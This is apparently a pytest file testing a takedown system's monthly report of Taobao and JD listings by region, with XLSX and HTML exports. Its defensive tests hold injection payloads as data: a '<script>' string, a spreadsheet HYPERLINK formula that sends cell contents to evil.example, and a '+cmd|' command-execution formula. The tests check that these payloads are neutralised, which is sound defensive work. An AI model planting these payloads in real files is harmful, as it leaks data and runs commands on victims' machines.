"""Monthly report: counts per platform and region, removal rate, median days; XLSX and HTML with SVG."""

from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session
from td_seed import T0, add_listing, add_user, sqlite_only_session

from store.models import ItemStatus, Review, ReviewAction, Role
from takedown.errors import TakedownError
from takedown.grouping import draft_notices
from takedown.reports import monthly_summary, report_html, report_xlsx
from takedown.workflow import approve, mark_sent


@pytest.fixture
def session(sqlite_url: str) -> Iterator[Session]:
    """SQLite only (see td_seed.sqlite_only_session)."""
    with sqlite_only_session(sqlite_url) as s:
        yield s


def test_monthly_summary(session: Session) -> None:
    sup = add_user(session, "sup", Role.supervisor)
    urls = [f"https://item.taobao.com/item.htm?id={i}" for i in range(4)]
    listings = [
        add_listing(
            session,
            "taobao",
            u,
            title=f"t{i}",
            text="包授权",
            shop="甲店",
            categories=["guaranteed_grant"],
            region="浙江" if i < 3 else "广东",
        )
        for i, u in enumerate(urls)
    ]
    add_listing(
        session,
        "jd",
        "https://item.jd.com/1.html",
        title="j",
        text="x",
        shop="乙",
        categories=[],
        region="广东",
    )
    session.add(
        Review(
            listing_id=listings[0].id,
            user_id=sup.id,
            action=ReviewAction.confirm,
            created_at=T0 - timedelta(days=40),
        )
    )  # confirmed in September: not an October/November finding
    [notice, jd_notice] = sorted(
        draft_notices(session, sup, now=T0).created, key=lambda n: n.platform.key != "taobao"
    )
    approve(session, notice, sup, at=T0)
    mark_sent(session, notice, sup, at=T0)
    by_id = {i.listing_id: i for i in notice.items}
    for listing, days in ((listings[0], 1), (listings[1], 3), (listings[3], 2)):
        by_id[listing.id].status = ItemStatus.removed
        by_id[listing.id].removed_at = T0 + timedelta(days=days)
    session.flush()

    report = monthly_summary(session, "2026-11", "某局")
    rows = {(r.platform, r.region): r for r in report.rows}
    zj, gd = rows[("taobao", "浙江")], rows[("taobao", "广东")]
    assert (zj.findings, zj.notices, zj.sent, zj.removed) == (2, 1, 3, 2)
    assert zj.removal_rate == pytest.approx(2 / 3, abs=1e-4) and zj.median_days == 2.0
    assert (gd.findings, gd.sent, gd.removed, gd.median_days) == (1, 1, 1, 2.0)
    total = rows[("taobao", "合计")]
    assert (total.notices, total.sent, total.removed, total.removal_rate, total.median_days) == (
        1,
        4,
        3,
        0.75,
        2.0,
    )
    assert rows[("jd", "广东")].findings == 1 and rows[("jd", "广东")].notices == 0
    assert monthly_summary(session, "2026-10").rows[-1].findings == 0

    xlsx = report_xlsx(report)
    assert xlsx == report_xlsx(report)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert [c.value for c in sheet[1]][:3] == ["平台", "地区", "发现违规信息"]
    html = report_html(report)
    assert html.count("<svg") == 3 and "各平台删除率" in html and "75%" in html
    assert "http" not in html.split("<body>")[0]  # no external assets
    with pytest.raises(TakedownError, match="month must look like"):
        monthly_summary(session, "2026-13")


def test_report_escapes_page_text(session: Session) -> None:
    add_listing(
        session,
        "<script>x</script>",
        "https://evil.example/1",
        title="t",
        text="x",
        shop="s",
        categories=[],
        region="<b>r</b>",
    )
    html = report_html(monthly_summary(session, "2026-11"))
    assert "<script>x" not in html and "&lt;script&gt;x" in html and "&lt;b&gt;r" in html


EVIL_REGION = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_report_xlsx_guards_crawled_values(session: Session) -> None:
    """Issue 17, finding 6: a crawled region must not become a live formula in the report."""
    sup = add_user(session, "sup", Role.supervisor)
    for i, region in enumerate((EVIL_REGION, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2")):
        listing = add_listing(
            session,
            "taobao",
            f"https://item.taobao.com/item.htm?id=7{i}",
            title="t",
            text="包授权",
            shop=f"店{i}",
            categories=["guaranteed_grant"],
            region=region,
        )
        session.add(
            Review(
                listing_id=listing.id, user_id=sup.id, action=ReviewAction.confirm, created_at=T0
            )
        )
    session.flush()
    report = monthly_summary(session, "2026-11", "某局")
    assert EVIL_REGION in {r.region for r in report.rows}
    sheet = load_workbook(io.BytesIO(report_xlsx(report))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + EVIL_REGION in texts and EVIL_REGION not in texts
    for raw in ("+cmd|'", "@SUM(1+1)", "-1+2"):  # the report groups by the region's first word
        assert "'" + raw in texts
